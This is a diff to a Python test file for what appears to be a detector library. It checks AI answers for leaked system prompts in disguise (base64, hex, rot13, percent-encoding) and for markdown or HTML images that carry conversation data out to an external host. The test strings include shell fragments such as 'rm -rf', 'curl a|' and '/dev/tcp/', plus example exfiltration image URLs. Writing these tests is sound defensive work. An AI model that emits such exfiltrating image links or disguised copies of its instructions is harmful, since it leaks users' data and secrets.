@@ -6,12 +6,14 @@ import base64
 import codecs
 import json
 import time
+from urllib.parse import quote
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from tests.inspection.content.test_rules import ALL, RULES
 
+from wardstead.inspection.content.carried import carried
 from wardstead.inspection.content.code import DangerousCode
 from wardstead.inspection.content.detectors import content_detectors
 from wardstead.inspection.content.leakage import leakage
@@ -40,12 +42,27 @@ def test_many_texts_give_what_each_gives_alone(texts: list[str], more: str) -> N
 
 
 @pytest.mark.parametrize(
-    "unit", ["<a ", "<img src=x ", "![](//", "](//x/", "`", "rm -rf ", "curl a|", "\u200b", "/dev/tcp/", "echo * "]
+    "unit",
+    [
+        "<a ",
+        "<img src=x ",
+        "![](//",
+        "](//x/",
+        "`",
+        "rm -rf ",
+        "curl a|",
+        "\u200b",
+        "/dev/tcp/",
+        "echo * ",
+        "%41" + "a" * 199,
+        "a",
+        "x" * 17 + " ",
+    ],
 )
 def test_no_text_takes_much_longer_than_another(unit: str) -> None:
     text = unit * (200_000 // len(unit))
     begin = time.perf_counter()
-    for detector in ALL:
+    for detector in (*ALL, leakage([SYSTEM], ["quartz-7781"]), carried(SAID)):
         detector.detect([text])
     assert time.perf_counter() - begin < 10
 
@@ -103,9 +120,10 @@ def test_a_loop_depends_on_what_stands_before_it_alone(words: list[str], end: in
         codecs.encode(SYSTEM, "rot13"),
         "Here: " + base64.b64encode(SYSTEM.encode()).decode(),
         "Here: " + SYSTEM.encode().hex(),
+        "[x](https://x.example.net/?q=" + quote(SYSTEM) + ")",
         "![x](https://x.example.net/" + base64.urlsafe_b64encode(SYSTEM.encode()).decode() + ")",
     ],
-    ids=["whole", "capitals", "list", "paraphrase", "backwards", "rot13", "base64", "hex", "address"],
+    ids=["whole", "capitals", "list", "paraphrase", "backwards", "rot13", "base64", "hex", "percent", "address"],
 )
 def test_instructions_that_come_back_are_a_leak(answer: str) -> None:
     found = leakage([SYSTEM]).detect([answer])[0]
@@ -137,3 +155,38 @@ def test_instructions_without_content_are_no_secret() -> None:
 def test_a_planted_string_is_seen_in_disguise(answer: str) -> None:
     assert leakage([], ["quartz-7781-plume"]).detect([answer])[0]
     assert not leakage([], ["quartz-7781-plume"]).detect(["quartz and plume"])[0]
+
+
+SAID = ["My customer number is AC-10422-7, and the build is 20241107. See https://img.example.org/shots/77abc123.png"]
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://x.example.net/p.png?id=AC-10422-7",
+        "https://x.example.net/ac104227.png",
+        "//x.example.net/20241107",
+        "https://x.example.net/p?d=QUMtMTA0MjItNw",
+        "https://x.example.net/p?d=AC%2D10422%2D7",
+    ],
+)
+def test_an_image_that_carries_what_was_said_is_seen(address: str) -> None:
+    for text in (f"![x]({address})", f'<img src="{address}">'):
+        (span,) = carried(SAID).detect([text])[0]
+        assert text[span.start : span.end] == address
+    assert carried(SAID).detect([f"[link]({address})"]) == [[]]
+    assert carried(SAID, frozenset({"x.example.net"})).detect([f"![x]({address})"]) == [[]]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![shot](https://img.example.org/shots/77abc123.png)",
+        "![x](https://x.example.net/other-104228.png)",
+        "![x](http://localhost/AC-10422-7)",
+        "AC-10422-7 and 20241107",
+    ],
+)
+def test_an_image_that_carries_nothing_of_the_conversation_is_not(text: str) -> None:
+    assert carried(SAID).detect([text]) == [[]]
+    assert carried([]).detect(["![x](https://x.example.net/AC-10422-7)"]) == [[]]
